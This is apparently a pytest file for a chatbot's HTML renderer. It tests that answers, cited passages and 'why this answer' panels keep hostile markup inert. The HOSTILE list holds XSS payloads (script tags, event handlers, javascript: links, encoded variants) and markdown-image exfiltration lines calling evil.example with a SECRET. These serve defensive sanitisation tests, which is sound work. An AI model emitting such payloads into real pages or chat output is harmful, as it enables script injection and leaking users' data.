import re

import pytest

from chatbot.answer import Answer, Assistant, Citation, Part
from chatbot.decide import Decision, Figure
from chatbot.page.render import answer_html, question_html, sources_html
from chatbot.why import Removed, Why
from knowledge.documents import Chunk, Hit, Link

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/?q=SECRET)",
    "![x][1]\n\n[1]: http://evil.example/",
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    '<a href="http://evil.example" ping="http://evil.example">x</a>',
    '<div style="background:url(http://evil.example)">x</div>',
    # harmless until something reads them a second time
    "&lt;img src=x onerror=alert(1)&gt;",
    "<<script>script>alert(1)<</script>/script>",
    "[click](&#106;avascript:alert(1))",
    "`</code><img src=x onerror=alert(1)>`",
]


def active(html):
    """Elements and attributes that could load or run something."""
    tags = re.findall(r"<\s*(\w+)([^>]*)>", html)
    allowed = {"div", "p", "ul", "li", "a", "code", "pre", "em", "strong", "h2", "h3", "details", "summary", "article"}
    found = [tag for tag, _ in tags if tag not in allowed | {"mark", "br", "table", "tr", "th", "td"}]
    for _, attributes in tags:
        found += re.findall(r"\b(?:on\w+|src|ping|style)\s*=", attributes)
        found += [url for url in re.findall(r'href="([^"]*)"', attributes) if not re.match(r"https?://|#passage-", url)]
    return found


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_in_a_note_becomes_active(hostile):
    chunk = Chunk(
        hostile, hostile, (hostile,), (1, 2), hostile, links=(Link(hostile, hostile), Link("x", "javascript:1"))
    )
    answer = Answer(
        hostile,
        state="done",
        parts=tuple(Part(kind, hostile, 1, url=hostile) for kind in ("say", "quote", "code", "link", "note")),
        citations=(Citation(1, chunk, ((0, len(hostile)),)),),
        why=Why(hostile, (Hit(chunk, 0.5),), None, (Removed(hostile, hostile),)),
    )
    for html in (answer_html(answer, 0), sources_html([answer]), question_html(hostile)):
        assert active(html) == []


def test_hostile_notes_stay_words_from_file_to_page(add, store, settings):
    add("## Attack <img src=x onerror=alert(1)>\n" + "\n\n".join(HOSTILE) + "\n")
    answer = Assistant(store, settings, "extract").answer("attack img")
    assert answer.citations
    assert active(answer_html(answer, 0) + sources_html([answer])) == []


def test_the_cited_words_are_marked_in_the_passage():
    chunk = Chunk("n.md", "n", ("H",), (1, 2), "One & two. Three. Four.")
    answer = Answer("q", citations=(Citation(1, chunk, ((0, 10), (18, 23))),))
    assert "<mark>One &amp; two.</mark> Three. <mark>Four.</mark>" in sources_html([answer])


def why_of(state="done", **changes):
    hit = Hit(Chunk("n.md", "n", ("H & I",), (3, 4), "One.\nTwo."), 0.5, 0.41, 0.32, 0.63, 7, None)
    decision = Decision(0.25, 0.5, (Figure("best <cosine>", 0.41, 5.0),))
    return Answer("q", state, why=Why("q (topic)", (hit,), decision, (Removed("Nine & ten.", "no"),)), **changes)


def test_why_lies_folded_under_the_passages_of_a_finished_answer():
    html = sources_html([why_of()])
    assert '<details class="why"><summary>Why this answer</summary>' in html
    for shown in ("q (topic)", "H &amp; I", "n.md, lines 3–4", "best &lt;cosine&gt;", "Nine &amp; ten.", "0.25"):
        assert shown in html
    figures = "".join(f"<td>{cell}</td>" for cell in ("0.50", "0.41", "7", "0.32", "–", "0.63"))
    assert f"<tr>{figures}</tr>" in html
    assert "Why" not in sources_html([why_of(state="writing")])
    assert "appear here" in sources_html([Answer("hello", "done", "intent", why=Why("hello"))])


def test_a_refusal_does_not_fold_the_passages_of_the_answer_before_it():
    cited = Answer("before", citations=(Citation(1, Chunk("n.md", "n", ("H",), (1, 2), "One."), ((0, 4),)),))
    html = sources_html([cited, cited, why_of(route="none")])
    assert re.findall(r"<details( open)?><summary>(.*?)<", html) == [
        (" open", "q"),
        (" open", "before"),
        ("", "before"),
    ]


def test_a_path_in_the_home_folder_is_shown_as_its_owner_writes_it(monkeypatch, tmp_path):
    monkeypatch.setenv("HOME", str(tmp_path))
    for source, shown in ((f"{tmp_path}/notes/n.md", "~/notes/n.md"), ("/elsewhere/n.md", "/elsewhere/n.md")):
        answer = Answer("q", citations=(Citation(1, Chunk(source, "n", ("H",), (1, 2), "One."), ((0, 4),)),))
        assert f">{shown}, line 2<" in sources_html([answer])


def test_an_answer_is_one_line_with_its_code_whole():
    html = answer_html(Answer("q", state="done", parts=(Part("code", "```\na\n\nb\n```", 1),)), 3)
    assert "\n" not in html
    assert "a&#10;&#10;b" in html
    assert 'href="#passage-3-1"' in html
